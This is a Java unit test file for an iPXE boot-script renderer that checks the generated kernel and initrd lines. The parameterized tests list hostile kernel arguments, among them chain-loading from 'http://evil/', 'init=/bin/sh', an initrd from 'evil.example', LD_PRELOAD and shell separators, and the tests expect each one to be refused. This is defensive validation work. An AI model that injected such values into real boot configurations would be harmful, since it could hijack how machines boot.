package io.chrootbooter.operator.machine;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class IpxeScriptTest {
  private static final String NONCE = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";

  private static IpxeScript.Boot boot(List<String> kernelArgs) {
    return new IpxeScript.Boot(
        "lab",
        "m1",
        "http://10.0.0.1:8080",
        "52:54:00:12:34:56",
        NONCE,
        List.of("cb.image=http://10.0.0.1:8080/images/x.squashfs"),
        List.of("console=ttyS0,115200n8"),
        kernelArgs);
  }

  @Test
  void scriptLoadsTheBootstrapWithTheMachinesIdentity() {
    assertThat(IpxeScript.boot(boot(List.of("quiet", "systemd.unit=rescue.target"))))
        .isEqualTo(
            "#!ipxe\n"
                + "# Chroot Booter: MachineBoot lab/m1\n"
                + "kernel http://10.0.0.1:8080/bootstrap/vmlinuz?mac=52:54:00:12:34:56 initrd=initramfs"
                + " cb.operator=http://10.0.0.1:8080 cb.mac=52:54:00:12:34:56 cb.nonce="
                + NONCE
                + " BOOTIF=01-52-54-00-12-34-56"
                + " cb.image=http://10.0.0.1:8080/images/x.squashfs console=ttyS0,115200n8 quiet"
                + " systemd.unit=rescue.target\n"
                + "initrd --name initramfs http://10.0.0.1:8080/bootstrap/initramfs?mac=52:54:00:12:34:56\n"
                + "initrd --name agent-cache http://10.0.0.1:8080/bootstrap/agent-cache"
                + " || echo Chroot Booter: no agent-cache, the agent starts without its class"
                + " archive\n"
                + "boot\n");
  }

  @Test
  void anHttpsAgentApiAndItsPinnedCaGoOnTheKernelCommandLine() {
    String pin = "sha256:" + "ab".repeat(32);
    String script =
        IpxeScript.boot(
            new IpxeScript.Boot(
                "lab",
                "m1",
                "http://10.0.0.1:8080",
                "52:54:00:12:34:56",
                NONCE,
                List.of(),
                List.of(),
                List.of(),
                "https://10.0.0.1:8443/",
                pin));
    assertThat(script)
        .contains("kernel http://10.0.0.1:8080/bootstrap/vmlinuz?mac=52:54:00:12:34:56 ")
        .contains(" cb.operator=https://10.0.0.1:8443 cb.ca=" + pin + " ")
        .contains(
            "initrd --name initramfs http://10.0.0.1:8080/bootstrap/initramfs?mac=52:54:00:12:34:56\n");
  }

  @Test
  void aMalformedPinOrAgentUrlIsNeverRendered() {
    for (String[] bad :
        new String[][] {
          {"https://10.0.0.1:8443", "sha256:XYZ"},
          {"https://10.0.0.1:8443", "sha256:" + "ab".repeat(32) + " init=/bin/sh"},
          {"https://x y", null}
        }) {
      assertThatThrownBy(
              () ->
                  new IpxeScript.Boot(
                      "lab",
                      "m1",
                      "http://10.0.0.1:8080",
                      "52:54:00:12:34:56",
                      NONCE,
                      List.of(),
                      List.of(),
                      List.of(),
                      bad[0],
                      bad[1]))
          .isInstanceOf(IllegalArgumentException.class);
    }
  }

  /** The last line of defence: even a value that skipped validation is never rendered. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "quiet\nchain http://evil/x",
        "${net0/mac}",
        "a||b",
        "a&&b",
        "chain http://evil/",
        "x y",
        "--",
        "\"q\"",
        "a;b",
        "a`b`",
        "init\u2044bin\u2044sh",
        "quiet\r",
        ""
      })
  void unsafeKernelArgumentsAreRefused(String hostile) {
    assertThatThrownBy(() -> boot(List.of(hostile)))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage("refusing to render an iPXE script with an unsafe kernel argument");
  }

  @Test
  void unsafeBaseUrlNonceAndMacAreRefused() {
    assertThatThrownBy(
            () ->
                new IpxeScript.Boot(
                    "lab",
                    "m1",
                    "http://h/${x}",
                    "52:54:00:12:34:56",
                    NONCE,
                    List.of(),
                    List.of(),
                    List.of()))
        .hasMessageContaining("base URL");
    assertThatThrownBy(
            () ->
                new IpxeScript.Boot(
                    "lab",
                    "m1",
                    "http://h",
                    "52:54:00:12:34:56",
                    "a b",
                    List.of(),
                    List.of(),
                    List.of()))
        .hasMessageContaining("nonce");
    assertThatThrownBy(
            () ->
                new IpxeScript.Boot(
                    "lab",
                    "m1",
                    "http://h",
                    "52-54-00-12-34-56",
                    NONCE,
                    List.of(),
                    List.of(),
                    List.of()))
        .hasMessageContaining("MAC");
  }

  @Test
  void unknownMachinesExitToTheNextBootDevice() {
    assertThat(IpxeScript.unknown("52:54:00:12:34:56"))
        .isEqualTo("#!ipxe\necho Chroot Booter: no MachineBoot for 52:54:00:12:34:56\nexit 1\n");
  }

  /**
   * The renderer refuses what the reconciler refuses, should a spec ever reach it unchecked: the
   * words that choose PID 1, the operator's own, and upper-case keys the kernel would put into the
   * bootstrap's environment.
   */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "init=/bin/sh",
        "rdinit=/bin/sh",
        "initrd=http://evil.example/i",
        "bootif=01-52-54-00-12-34-56",
        "cb.nonce=forged",
        "cb_debug=1",
        "CB_DEBUG=1",
        "LD_PRELOAD=/tmp/x.so",
        "Init=/bin/sh"
      })
  void reservedKernelArgumentsAreNeverRendered(String arg) {
    assertThatThrownBy(() -> IpxeScript.boot(boot(List.of("quiet", arg))))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageStartingWith("refusing to render an iPXE script");
  }

  @Test
  void valuesMayUseUpperCase() {
    assertThat(IpxeScript.boot(boot(List.of("root=LABEL=ROOT", "systemd.hostname=Lab-M1"))))
        .contains(" root=LABEL=ROOT systemd.hostname=Lab-M1\n");
  }
}
